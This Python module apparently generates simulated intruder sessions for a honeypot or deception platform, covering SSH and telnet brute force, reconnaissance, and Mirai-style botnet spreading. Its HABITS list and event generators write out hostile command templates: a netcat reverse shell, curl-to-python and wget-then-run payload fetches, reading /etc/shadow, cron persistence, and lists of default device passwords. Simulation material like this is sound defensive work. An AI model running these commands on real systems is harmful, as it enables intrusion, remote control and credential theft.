# SPDX-License-Identifier: MIT
"""What a visit in the eighth world consists of."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from random import Random
from typing import NamedTuple

from decnet_core.events.catalogue import (
    CertificateProbed,
    ClientIdentified,
    CommandRun,
    ConnectionOpened,
    FileCaptured,
    HttpRequest,
    LoginAttempt,
    Payload,
    PortScan,
    SessionClosed,
    SessionOpened,
    SshKex,
    TlsClient,
    TlsProbed,
)
from planted.arsenal import hexadecimal, word

Credential = tuple[str, str]
FIRST_PASSWORDS = (
    *("123456", "password", "12345678", "qwerty", "admin", "root", "1234", "toor", "pass", "111111", "letmein"),
    *("welcome", "changeme", "raspberry", "ubnt", "support", "guest", "oracle", "postgres", "default", "1q2w3e4r"),
)
USERS = ("root", "admin", "ubuntu", "test", "user", "oracle", "postgres", "pi", "git", "deploy")
DEVICE_PASSWORDS = (
    *("vizxv", "888888", "xmhdipc", "juantech", "54321", "1111", "klv123", "anko", "zlxx.", "7ujMko0vizxv"),
    *("hi3518", "jvbzd", "ikwb"),
)
LOOKS = (
    *("uname -a", "id", "whoami", "cat /proc/cpuinfo", "w", "uptime", "free -m", "ls -la /", "cat /etc/passwd"),
    *("ps aux", "df -h", "nproc", "ifconfig", "netstat -an", "history"),
)
HABITS = (
    *("cd /tmp && ./{n} -o {h}:4444", "cat /etc/shadow | base64", "mkdir -p /var/tmp/.{n}", "chmod +x /tmp/{n}"),
    *("nohup /tmp/{n} &", "tar czf /tmp/{n}.tgz /etc", "find / -name '*.{n}'", "scp /tmp/{n} root@10.0.0.5:/root"),
    *("systemctl enable {n}", "crontab -l | grep {n}", "echo '* * * * * /tmp/{n}' | crontab -", "useradd -m {n}"),
    *("ssh-keygen -f /root/.ssh/{n}", "echo {n}:{n}123 | chpasswd", "ping -c 3 {h}", "nc {h} 9001 -e /bin/sh"),
    *("python3 /tmp/{n}.py", "curl -s {h}/{n}.py | python3", "wget -q {h}/{n}", "export HISTFILE=/dev/null; ./{n}"),
)
"""What people do after they are in, with the name of their program and their server, also without a scheme."""
PAGES = ("/", "/admin", "/login", "/.env", "/wp-login.php", "/robots.txt")


class Software(NamedTuple):
    """An SSH client and a Web client."""

    banner: str
    hassh: str
    ja4: str
    agent: str


class Person(NamedTuple):
    """What somebody works with."""

    client: Software
    key: str
    """Empty: none."""
    secrets: tuple[Credential, ...]
    lines: tuple[str, ...]
    looks: tuple[str, ...]
    url: str
    program: str
    """The digest of what the URL gives; empty: nothing is fetched."""
    jarm: str
    certificate: str


class Net(NamedTuple):
    """A botnet of devices."""

    url: str
    program: str


def software(dice: Random) -> Software:
    agent = dice.choice(("curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1", "Mozilla/5.0 zgrab/0.x"))
    ja4 = f"t13d15{dice.randrange(10, 30)}h2_{hexadecimal(dice, 12)}_{hexadecimal(dice, 12)}"
    return Software(f"SSH-2.0-{word(dice)}_{dice.randrange(10)}", hexadecimal(dice, 32), ja4, agent)


def secrets(dice: Random, number: int) -> tuple[Credential, ...]:
    """Return a list of passwords, of which a third are those that everybody tries first."""
    return tuple(
        (dice.choice(USERS), dice.choice(FIRST_PASSWORDS) if dice.random() < 0.35 else _secret(dice))
        for _ in range(number)
    )


def _secret(dice: Random) -> str:
    return f"{word(dice).title()}{dice.choice(('', '!', '@'))}{dice.randrange(1, 9999)}"


def habits(dice: Random, name: str, host: str, number: int) -> tuple[str, ...]:
    return tuple(line.replace("{n}", name).replace("{h}", host) for line in dice.sample(HABITS, number))


def visit(dice: Random, one: Person, shows: Sequence[str]) -> Iterator[Payload]:
    """Show some of what a person has: of "key", "secrets", "lines", "program" and "web"."""
    if "web" in shows and dice.random() < 0.5:
        yield from browse(dice, one.client, dice.randrange(2, 6))
        if one.program and dice.random() < 0.5:
            body = f"cmd=wget {one.url}"
            yield HttpRequest("POST", "/cgi-bin/luci", user_agent=one.client.agent, status=200, body=body)
        if len(shows) == 1:
            return
    yield from _connect(one.client)
    if "key" in shows and one.key:
        yield LoginAttempt("ssh", "root", False, "publickey", public_key=one.key)
    yield from _get_in(dice, one.secrets if "secrets" in shows else ())
    lines = [*one.looks[: dice.randrange(1, 4)], *(one.lines if "lines" in shows else ())]
    fetches = "program" in shows and one.program
    if fetches:
        name = one.url.rpartition("/")[2]
        lines.append(f"wget {one.url} -O /tmp/{name}; sh /tmp/{name}")
    yield from (CommandRun("ssh", line) for line in lines)
    if fetches:
        yield FileCaptured("ssh", one.program, 1000, url=one.url)
    yield SessionClosed("ssh", dice.randrange(5000, 90000), commands=len(lines))


def _connect(client: Software) -> Iterator[Payload]:
    yield ConnectionOpened("ssh")
    yield ClientIdentified("ssh", client.banner)
    yield SshKex("client", client.banner, client.hassh, "")


def _get_in(dice: Random, own: Sequence[Credential]) -> Iterator[Payload]:
    for user, secret in dice.sample(own, min(len(own), dice.randrange(5, 25))):
        yield LoginAttempt("ssh", user, False, password=secret)
    user = dice.choice(USERS)
    yield LoginAttempt("ssh", user, True, password=dice.choice(FIRST_PASSWORDS))
    yield SessionOpened("ssh", user)


def probed(_dice: Random, one: Person, contact: int) -> Iterator[Payload]:
    """Tell what the person's address answers."""
    yield TlsProbed(contact, jarm=one.jarm)
    yield CertificateProbed(contact, sha256=one.certificate, subject="CN=localhost")


def spread(dice: Random, net: Net) -> Iterator[Payload]:
    """Let a device of a botnet look for others."""
    yield ConnectionOpened("telnet")
    for secret in dice.sample(DEVICE_PASSWORDS, dice.randrange(4, 12)):
        yield LoginAttempt("telnet", "root", False, password=secret)
    yield LoginAttempt("telnet", "root", True, password="xc3511")
    yield SessionOpened("telnet", "root")
    name = net.url.rpartition("/")[2]
    lines = ("enable", "system", "shell", "sh", "/bin/busybox MIRAI")
    yield from (CommandRun("telnet", line) for line in lines)
    yield CommandRun("telnet", f"cd /tmp; wget {net.url}; chmod 777 {name}; ./{name}")
    yield FileCaptured("telnet", net.program, 50_000, url=net.url)
    yield SessionClosed("telnet", 4000, commands=len(lines) + 1)


def guess(dice: Random, client: Software) -> Iterator[Payload]:
    yield from _connect(client)
    for _ in range(dice.randrange(5, 50)):
        yield LoginAttempt("ssh", dice.choice(USERS), False, password=dice.choice(FIRST_PASSWORDS))


def scan(dice: Random) -> Iterator[Payload]:
    yield PortScan("syn", tuple(sorted(dice.sample(range(1, 1024), 6))), 6)
    for _ in range(dice.randrange(3, 6)):
        yield ConnectionOpened(dice.choice(("ssh", "http", "telnet")))


def browse(dice: Random, client: Software, number: int) -> Iterator[Payload]:
    yield ConnectionOpened("http")
    yield TlsClient("tcp", hexadecimal(Random(client.ja4), 32), client.ja4, 771)
    for _ in range(number):
        yield HttpRequest("GET", dice.choice(PAGES), user_agent=client.agent, status=404)


def look(dice: Random, client: Software) -> Iterator[Payload]:
    yield from _connect(client)
    yield from _get_in(dice, ())
    lines = dice.sample(LOOKS, dice.randrange(2, 7))
    yield from (CommandRun("ssh", line) for line in lines)
    yield SessionClosed("ssh", 9000, commands=len(lines))
